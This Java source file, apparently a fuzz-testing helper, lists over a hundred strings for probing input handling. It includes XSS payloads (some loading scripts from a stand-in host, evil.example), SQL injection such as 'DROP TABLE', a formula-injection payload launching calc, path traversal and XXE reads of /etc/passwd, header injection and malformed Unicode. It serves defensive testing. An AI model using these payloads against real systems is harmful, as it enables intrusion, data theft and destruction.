package parley.app.server;

import java.util.ArrayList;
import java.util.List;

/** Strings that break careless programs. A script that runs sets {@code window.broken}. */
public final class Payloads {

  private Payloads() {}

  /** All of them, more than a hundred. */
  public static List<String> all() {
    List<String> all = new ArrayList<>();
    String run = "window.broken=1";
    for (String tag :
        List.of("img", "svg", "body", "iframe", "video", "details", "input", "marquee")) {
      all.add("<" + tag + " src=x onerror=" + run + " onload=" + run + " ontoggle=" + run + ">");
      all.add("\"><" + tag + " onfocus=" + run + " autofocus>");
    }
    for (String script :
        List.of(
            "<script>" + run + "</script>",
            "</script><script>" + run + "</script>",
            "</title><script>" + run + "</script>",
            "</textarea><script>" + run + "</script>",
            "</style><script>" + run + "</script>",
            "<scr<script>ipt>" + run + "</scr</script>ipt>",
            "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
            "<!--<script>" + run + "-->",
            "<![CDATA[<script>" + run + "</script>]]>",
            "<math><mtext><script>" + run + "</script>",
            "<base href=//evil.example/>",
            "<meta http-equiv=refresh content=0;url=//evil.example>",
            "<link rel=stylesheet href=//evil.example/x.css>",
            "<style>*{display:none}</style>",
            "<form action=//evil.example><button>go</button></form>",
            "<object data=javascript:" + run + ">",
            "<embed src=javascript:" + run + ">",
            "<a href=javascript:" + run + ">x</a>",
            "<template><script>" + run + "</script></template>")) {
      all.add(script);
      all.add("Talks: " + script + " went on");
    }
    all.addAll(
        List.of(
            "javascript:" + run,
            "JaVaScRiPt:" + run,
            "java\tscript:" + run,
            "data:text/html,<script>" + run + "</script>",
            "vbscript:msgbox",
            "{{constructor.constructor('" + run + "')()}}",
            "${" + run + "}",
            "#{7*7}",
            "<%= 7*7 %>",
            "{@html '<script>" + run + "</script>'}",
            "{#if true}x{/if}",
            "[[7*7]]",
            "{7*7}",
            "%{7*7}",
            "=1+1",
            "=cmd|' /C calc'!A0",
            "+1+1",
            "-1+1",
            "@SUM(1,1)",
            "\t=1+1",
            "\r=1+1",
            "＝1+1",
            "'=1+1",
            "\"=1+1\"",
            "'; DROP TABLE report; --",
            "' OR '1'='1",
            "\" OR \"\"=\"",
            "1; ATTACH 'x' AS y",
            "%' UNION SELECT record FROM report --",
            "\\'; --",
            "NEAR(",
            "NEAR/999999999999 a",
            "a NEAR/5",
            "AND OR NOT",
            "text:a",
            "{text}: a",
            "^a",
            "a*b*",
            "\"unclosed",
            "\"\"\"",
            "*",
            "-",
            "- - -",
            "(((((((((",
            "a OR",
            "\u0000",
            "a\u0000b",
            "\uD800",
            "\uDC00x",
            "a\uD83Db",
            "\uFFFE\uFFFF",
            "\uFEFFa",
            "\u202Eabc\u202C",
            "\u2066abc",
            "\u0301\u0301\u0301a",
            "\u2028\u2029",
            "\u0085",
            "\u001B[31mred\u001B[0m",
            "\b\b\b",
            "%00",
            "%",
            "%zz",
            "%c0%ae%c0%ae/",
            "../../../../etc/passwd",
            "..\\..\\windows",
            "/etc/passwd",
            "//evil.example",
            "\r\nSet-Cookie: a=b",
            "\r\n\r\n<script>" + run + "</script>",
            "عربي שלום",
            "🕊𝔘𝔫𝔦",
            "𒐫".repeat(50),
            "a".repeat(3000),
            "é".repeat(600),
            "&lt;script&gt;" + run + "&lt;/script&gt;",
            "&#60;script&#62;",
            "\\u003cscript\\u003e",
            "]]>",
            "-->",
            "<?php 1 ?>",
            "<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>",
            "__proto__",
            "constructor",
            "null",
            "undefined",
            "NaN",
            "-1",
            "99999999999999999999",
            "1e309"));
    return all;
  }
}
